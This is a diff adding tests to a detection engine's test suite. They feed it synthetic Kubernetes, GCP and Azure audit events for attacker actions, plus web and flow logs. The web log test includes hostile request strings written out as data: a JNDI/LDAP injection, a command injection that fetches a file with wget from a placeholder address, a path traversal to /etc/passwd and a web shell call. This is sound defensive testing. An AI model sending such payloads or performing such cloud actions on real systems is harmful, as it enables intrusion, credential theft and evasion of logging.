@@ -26,6 +26,80 @@ def masked(value):
     return [masked(v) for v in value] if isinstance(value, list) else value
 
 
+def k8s(verb, resource, user='mallory', code=201, body=None, namespace='default', name='x', sub=None, uri='/api/v1/x', decision='allow'):
+    ref = {'resource': resource, 'apiVersion': 'v1', 'name': name}
+    if namespace:
+        ref['namespace'] = namespace
+    if sub:
+        ref['subresource'] = sub
+    e = {'kind': 'Event', 'apiVersion': 'audit.k8s.io/v1', 'level': 'RequestResponse', 'auditID': '1', 'stage': 'ResponseComplete', 'requestURI': uri, 'verb': verb, 'user': {'username': user, 'groups': ['system:authenticated']},
+         'sourceIPs': ['203.0.113.9'], 'userAgent': 'masked', 'objectRef': ref, 'responseStatus': {'code': code}, 'requestReceivedTimestamp': '2026-03-02T10:00:00.000000Z', 'stageTimestamp': '2026-03-02T10:00:00.000000Z',
+         'annotations': {'authorization.k8s.io/decision': decision}}
+    if body:
+        e['requestObject'] = body
+    return e
+
+
+def pod(image='nginx', **spec):
+    security = spec.pop('security', {})
+    return {'kind': 'Pod', 'metadata': {'name': 'x'}, 'spec': {'containers': [{'name': 'c', 'image': image, 'securityContext': security}], **spec}}
+
+
+def gcp(method, service='compute.googleapis.com', request=None, **payload):
+    p = {'@type': 'type.googleapis.com/google.cloud.audit.AuditLog', 'status': {}, 'authenticationInfo': {'principalEmail': 'mallory@example.com'}, 'requestMetadata': {'callerIp': '203.0.113.9', 'callerSuppliedUserAgent': 'masked'},
+         'serviceName': service, 'methodName': method, 'authorizationInfo': [{'permission': 'x', 'granted': True}], 'resourceName': 'projects/p/x', **payload}
+    if request is not None:
+        p['request'] = request
+    return {'protoPayload': p, 'insertId': '1', 'resource': {'type': 'project', 'labels': {'project_id': 'p'}}, 'timestamp': '2026-03-02T10:00:00.0Z', 'severity': 'NOTICE', 'logName': 'projects/p/logs/cloudaudit.googleapis.com%2Factivity'}
+
+
+def azure(operation, rest=False, **properties):
+    if rest:
+        return {'authorization': {'action': operation, 'scope': '/subscriptions/s/x'}, 'caller': 'mallory@example.com', 'channels': 'Operation', 'claims': {}, 'correlationId': 'c', 'eventTimestamp': '2026-03-02T10:00:00Z', 'level': 'Informational',
+                'operationName': {'value': operation, 'localizedValue': operation}, 'category': {'value': 'Administrative'}, 'resourceId': '/subscriptions/s/x', 'status': {'value': 'Succeeded'}, 'subscriptionId': 's', 'httpRequest': {'clientIpAddress': '203.0.113.9'}, 'properties': properties}
+    return {'time': '2026-03-02T10:00:00.0Z', 'resourceId': '/SUBSCRIPTIONS/S/X', 'operationName': operation.upper(), 'category': 'Administrative', 'resultType': 'Success', 'resultSignature': 'Succeeded.', 'callerIpAddress': '203.0.113.9', 'correlationId': 'c',
+            'identity': {'authorization': {'action': operation}, 'claims': {'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': 'mallory@example.com'}}, 'level': 'Information', 'properties': properties}
+
+
+# What somebody does, as each provider writes it, and the rule that must say so.
+ACTS = [
+    (k8s('create', 'pods', body=pod(security={'privileged': True}, hostPID=True)), 'Container made to take its node'),
+    (k8s('create', 'pods', body=pod(volumes=[{'name': 'v', 'hostPath': {'path': '/'}}])), 'Folder of the node mounted in a container'),
+    (k8s('create', 'daemonsets', body={'kind': 'DaemonSet', 'spec': {'template': {'spec': pod('metal3d/xmrig')['spec']}}}), 'Image that mines started'),
+    (k8s('create', 'daemonsets', body={'kind': 'DaemonSet', 'spec': {'template': {'spec': pod()['spec']}}}), 'Something of its own runs on every node'),
+    (k8s('create', 'pods', namespace='kube-system', body=pod()), 'Workload put among those of the cluster'),
+    (k8s('list', 'secrets', code=200, namespace=None, name=None), 'Secrets of the whole cluster read'),
+    (k8s('list', 'secrets', user='system:anonymous', code=200, namespace=None, uri='/api/v1/secrets'), 'Cluster answers whoever asks'),
+    (k8s('create', 'clusterrolebindings', namespace=None, body={'kind': 'ClusterRoleBinding', 'roleRef': {'name': 'cluster-admin', 'kind': 'ClusterRole'}, 'subjects': [{'kind': 'User', 'name': 'mallory'}]}), 'Administrator of the cluster made'),
+    (k8s('create', 'clusterrolebindings', namespace=None, body={'kind': 'ClusterRoleBinding', 'roleRef': {'name': 'view', 'kind': 'ClusterRole'}, 'subjects': [{'kind': 'User', 'name': 'system:anonymous'}]}), 'Rights for nobody in particular'),
+    (k8s('create', 'pods', sub='exec', code=101, uri='/api/v1/namespaces/default/pods/x/exec?command=sh'), 'Command run in a container'),
+    (k8s('create', 'pods', sub='exec', user='system:serviceaccount:default:web', code=101), 'Workload runs commands in others'),
+    (k8s('get', 'nodes', sub='proxy', code=200, namespace=None), 'Node reached past the audit'),
+    (k8s('update', 'configmaps', namespace='kube-system', name='coredns', code=200), 'Names of the cluster led elsewhere'),
+    (k8s('delete', 'events', code=200), 'Events of the cluster deleted'),
+    (gcp('google.logging.v2.ConfigServiceV2.DeleteSink', 'logging.googleapis.com'), 'Log of the project led elsewhere or deleted'),
+    (gcp('SetIamPolicy', 'cloudresourcemanager.googleapis.com', serviceData={'policyDelta': {'auditConfigDeltas': [{'action': 'REMOVE', 'service': 'allServices'}]}}), 'Audit of the project told to record less'),
+    (gcp('SetIamPolicy', 'cloudresourcemanager.googleapis.com', serviceData={'policyDelta': {'bindingDeltas': [{'action': 'ADD', 'role': 'roles/owner', 'member': 'user:mallory@gmail.com'}]}}), 'Owner of a project made'),
+    (gcp('SetIamPolicy', 'cloudresourcemanager.googleapis.com', serviceData={'policyDelta': {'bindingDeltas': [{'action': 'ADD', 'role': 'roles/viewer', 'member': 'user:mallory@gmail.com'}]}}), 'Stranger let into a project'),
+    (gcp('storage.setIamPermissions', 'storage.googleapis.com', serviceData={'policyDelta': {'bindingDeltas': [{'action': 'ADD', 'role': 'roles/storage.objectViewer', 'member': 'allUsers'}]}}), 'Bucket of Google Cloud opened to everybody'),
+    (gcp('google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com'), 'Key of a service account made'),
+    (gcp('v1.compute.subnetworks.patch', request={'enableFlowLogs': False}), 'Flow logs of a network switched off'),
+    (gcp('beta.compute.instances.insert', request={'guestAccelerators': [{'acceleratorCount': 4, 'acceleratorType': 'nvidia-tesla-t4'}], 'machineType': 'zones/a/machineTypes/n1-standard-8'}), 'Machine with graphics processors asked for in Google Cloud'),
+    (gcp('v1.compute.instances.setMetadata', request={'metadata': {'items': [{'key': 'ssh-keys'}]}}), 'SSH keys or start-up script of machines set'),
+    (gcp('v1.compute.firewalls.insert', request={'sourceRanges': ['0.0.0.0/0'], 'alloweds': [{'IPProtocol': 'tcp', 'ports': ['22']}]}), 'Firewall of Google Cloud opened to the internet'),
+    (gcp('Dns.ManagedZones.Delete', 'dns.googleapis.com'), 'Names of a zone in Google Cloud changed'),
+    (azure('Microsoft.Insights/diagnosticSettings/delete'), 'Log of Azure switched off'),
+    (azure('Microsoft.Network/networkWatchers/flowLogs/delete', rest=True), 'Log of Azure switched off'),
+    (azure('Microsoft.Authorization/elevateAccess/action', rest=True), 'Everything in the tenant taken'),
+    (azure('Microsoft.Compute/virtualMachines/runCommand/action'), 'Commands run on machines of Azure'),
+    (azure('Microsoft.Authorization/roleAssignments/write', requestbody=json.dumps({'properties': {'roleDefinitionId': '/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635'}})), 'Owner in Azure made'),
+    (azure('Microsoft.Network/dnszones/NS/write', rest=True), 'Servers or mail of a zone in Azure set'),
+    (azure('Microsoft.Storage/storageAccounts/listKeys/action'), 'Keys of a store or cluster read'),
+    (azure('Microsoft.Security/alertsSuppressionRules/write', rest=True), 'Watching of Azure told to look away'),
+    (azure('Microsoft.Network/networkSecurityGroups/securityRules/write', requestbody=json.dumps({'properties': {'access': 'Allow', 'sourceAddressPrefix': '*', 'destinationPortRange': '22', 'protocol': 'Tcp'}})), 'Firewall of Azure opened to the internet'),
+]
+
+
 class Logs(unittest.TestCase):
     @classmethod
     def setUpClass(cls):
@@ -89,6 +163,28 @@ class Techniques(Logs):
         self.assertIn(('Many names tried from one address', '103.99.0.122'), loud)
         self.assertNotIn('Password guessed', {f['rule'] for f in found})
         self.assertNotIn('119.137.62.142', {f['output_fields'].get('login.ip') for f in found if f['priority'].lower() in LOUD})
+
+    def test_acts_in_other_clouds(self):
+        records = self.write('acts.json', [act for act, _ in ACTS])
+        said = collections.defaultdict(set)
+        for f in self.findings(records):
+            said[f['num']].add(f['rule'])
+        self.assertEqual([rule for i, (_, rule) in enumerate(ACTS) if rule not in said[i + 1]], [])
+
+    def test_requests_of_the_web(self):
+        lines = {'Job given to an open Hadoop cluster': 'POST /ws/v1/cluster/apps/new-application HTTP/1.1" 200 90', 'Engine of containers asked over the web': 'POST /v1.24/containers/create HTTP/1.1" 201 90',
+                 'Request for a known hole': 'GET /?x=$%7Bjndi:ldap://203.0.113.9/a%7D HTTP/1.1" 404 0', 'Command in a request': 'GET /cgi-bin/x?cmd=%3Bwget+http://203.0.113.9/x+-O+/tmp/x HTTP/1.1" 404 0',
+                 'Files of secrets given out': 'GET /.env HTTP/1.1" 200 812', 'Web shell called': 'POST /uploads/2026/x.php HTTP/1.1" 200 4', 'Way out of the folder in a request': 'GET /d?f=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1" 404 0'}
+        path = self.write('access.log', [f'203.0.113.{i} - - [29/Nov/2026:12:00:00 +0000] "{request} "-" "Mozilla/5.0"' for i, request in enumerate(lines.values())])
+        said = {(f['num'], f['rule']) for f in self.findings(path)}
+        self.assertEqual([rule for i, rule in enumerate(lines) if (i + 1, rule) not in said], [])
+
+    def test_flows(self):
+        t = 1772445600
+        lines = [f'2 111122223333 eni-1 10.0.0.5 203.0.113.{i} {40000 + i} 22 6 10 900 {t + i} {t + i + 60} ACCEPT OK' for i in range(1, 40)]
+        lines += [f'2 111122223333 eni-2 10.0.0.6 203.0.113.99 41000 3333 6 20 4000 {t + i * 120} {t + i * 120 + 60} ACCEPT OK' for i in range(30)]
+        lines += [f'2 111122223333 eni-3 10.0.0.7 203.0.113.98 41000 53 17 4000000 240000000 {t} {t + 60} ACCEPT OK']
+        self.assertEqual({f['rule'] for f in self.findings(self.write('flow.log', lines)) if f['priority'].lower() in LOUD}, {'Many machines tried by one', 'Flow like that of mining', 'Flood sent'})
 
     def test_a_password_that_was_guessed(self):
         lines = [f'Dec 10 06:55:{i:02d} web1 sshd[1]: Failed password for root from 203.0.113.9 port 4000 ssh2' for i in range(5)]
